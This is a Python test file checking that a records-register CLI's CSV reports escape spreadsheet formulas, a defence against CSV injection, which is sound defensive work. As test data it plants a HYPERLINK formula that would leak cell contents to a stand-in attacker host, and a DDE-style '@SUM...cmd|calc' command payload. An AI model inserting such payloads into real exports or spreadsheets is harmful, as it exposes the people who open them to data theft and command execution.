"""A record's text in a CSV file is never a spreadsheet formula (CSV injection)."""

from __future__ import annotations

import csv
import io

from conftest import MakeRegister, run_cli, valid_record_text

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click for the full record")'


def test_record_text_in_csv_cannot_be_a_formula(make_register: MakeRegister) -> None:
    text = valid_record_text("PD-2026-0007").replace(
        "title: Threshold for a child in need assessment", f"title: '{FORMULA}'"
    ).replace("  agency: Kent Police\n", "  agency: '@SUM(1+1)*cmd|calc'\n", 1)
    open_one = (
        valid_record_text("PD-2026-0008")
        .replace("title: Threshold for a child in need assessment", f"title: '{FORMULA}'")
        .replace("status: resolved", "status: open")
    )
    open_one = open_one[: open_one.index("resolution:")] + "---\n"
    root = make_register({"records/2026/PD-2026-0007.md": text,
                          "records/2026/PD-2026-0008.md": open_one})
    report = run_cli(["report", "--root", str(root), "--format", "csv", "--as-of", "2026-11-22"])
    overdue = run_cli(["overdue", "--root", str(root), "--format", "csv", "--as-of",
                       "2026-11-22"])
    assert report.exit_code == 0, report.output
    assert overdue.exit_code == 0, overdue.output
    cells = [c for out in (report.stdout, overdue.stdout)
             for row in csv.reader(io.StringIO(out)) for c in row]
    assert "'" + FORMULA in cells  # the title, shown as text by a spreadsheet
    assert "'@SUM(1+1)*cmd|calc" in cells  # the agency name
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
    assert "0-7" in cells  # ordinary labels are untouched
